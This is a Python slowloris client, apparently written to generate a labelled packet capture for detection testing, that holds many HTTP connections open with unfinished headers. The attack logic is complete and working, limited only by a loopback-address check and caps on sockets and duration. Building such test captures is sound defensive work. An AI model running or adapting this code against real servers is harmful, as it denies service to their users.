#!/usr/bin/env python3
"""Minimal slowloris client used to make the labelled capture ``slowloris.pcap``.

Slowloris keeps many HTTP connections open for a long time by never
finishing the request header: each socket sends a partial request
("GET /?n HTTP/1.1" plus a few header lines, but no empty line that ends the
header) and then "trickles" one more bogus header line every few seconds,
so the server keeps waiting and holds the connection (and a worker slot).

This tool is for making test captures against a server YOU run, inside an
isolated network namespace (see make-captures.sh).  It refuses any target
outside 127.0.0.0/8.  Everything is bounded: the number of sockets, the
total duration, and each connect has a timeout; when the duration is over
all sockets are closed and the program exits.

Standard library only.  Example:

    python3 slowloris.py --host 127.0.0.1 --port 8080 --sockets 150 \
        --duration 25 --interval 5 --source 127.0.0.77
"""

import argparse
import ipaddress
import random
import socket
import sys
import time

USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/16.6 Safari/605.1.15",
]


def parse_args(argv):
    p = argparse.ArgumentParser(
        description="Bounded slowloris client (loopback targets only).")
    p.add_argument("--host", default="127.0.0.1",
                   help="target IPv4 address, must be in 127.0.0.0/8 "
                        "(default %(default)s)")
    p.add_argument("--port", type=int, default=8080,
                   help="target TCP port (default %(default)s)")
    p.add_argument("--sockets", type=int, default=150,
                   help="number of connections to hold open "
                        "(default %(default)s, max 1000)")
    p.add_argument("--duration", type=float, default=25.0,
                   help="total run time in seconds; all sockets are closed "
                        "after it (default %(default)s, max 300)")
    p.add_argument("--interval", type=float, default=10.0,
                   help="seconds between two trickled header lines on each "
                        "socket (default %(default)s)")
    p.add_argument("--source", default=None,
                   help="optional local source address to bind to "
                        "(must be in 127.0.0.0/8)")
    p.add_argument("--connect-timeout", type=float, default=3.0,
                   help="per-connection connect timeout in seconds "
                        "(default %(default)s)")
    p.add_argument("--quiet", action="store_true", help="print only a summary")
    a = p.parse_args(argv)

    loopback = ipaddress.ip_network("127.0.0.0/8")
    for name in ("host", "source"):
        value = getattr(a, name)
        if value is None:
            continue
        try:
            addr = ipaddress.ip_address(value)
        except ValueError:
            p.error(f"--{name} must be an IPv4 address, got {value!r}")
        if addr not in loopback:
            p.error(f"--{name} {value} is outside 127.0.0.0/8; refusing")
    if not 1 <= a.sockets <= 1000:
        p.error("--sockets must be between 1 and 1000")
    if not 0 < a.duration <= 300:
        p.error("--duration must be in (0, 300] seconds")
    if a.interval <= 0:
        p.error("--interval must be > 0")
    return a


def open_socket(args, n):
    """Connect and send a partial request header (no terminating CRLF)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(args.connect_timeout)
    if args.source:
        s.bind((args.source, 0))
    s.connect((args.host, args.port))
    head = (
        f"GET /?{random.randint(0, 1_000_000)} HTTP/1.1\r\n"
        f"Host: {args.host}:{args.port}\r\n"
        f"User-Agent: {random.choice(USER_AGENTS)}\r\n"
        "Accept-Language: en-US,en;q=0.5\r\n"
    )
    s.sendall(head.encode("ascii"))
    return s


def main(argv=None):
    args = parse_args(sys.argv[1:] if argv is None else argv)
    log = (lambda *m: None) if args.quiet else (
        lambda *m: print(*m, file=sys.stderr, flush=True))

    deadline = time.monotonic() + args.duration
    socks = []
    failed_connects = 0
    trickled = 0
    dropped = 0

    # Open all sockets (bounded by the deadline as well).
    for n in range(args.sockets):
        if time.monotonic() >= deadline:
            break
        try:
            socks.append(open_socket(args, n))
        except OSError as e:
            failed_connects += 1
            log(f"connect {n} failed: {e}")
    log(f"opened {len(socks)} sockets ({failed_connects} failed)")

    # Trickle one header line per socket every `interval` seconds; reopen
    # sockets the server closed, as the real tool does.
    next_round = time.monotonic() + args.interval
    while True:
        now = time.monotonic()
        if now >= deadline:
            break
        if now < next_round:
            time.sleep(min(next_round, deadline) - now)
            continue
        next_round += args.interval
        alive = []
        for s in socks:
            try:
                line = f"X-a: {random.randint(1, 5000)}\r\n"
                s.sendall(line.encode("ascii"))
                alive.append(s)
                trickled += 1
            except OSError:
                dropped += 1
                s.close()
        while len(alive) < args.sockets and time.monotonic() < deadline:
            try:
                alive.append(open_socket(args, len(alive)))
            except OSError:
                failed_connects += 1
                break
        socks = alive
        log(f"round: {len(socks)} sockets alive, {dropped} dropped so far")

    for s in socks:
        try:
            s.close()
        except OSError:
            pass
    print(f"slowloris: sockets={args.sockets} held={len(socks)} "
          f"trickled_lines={trickled} dropped={dropped} "
          f"failed_connects={failed_connects}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
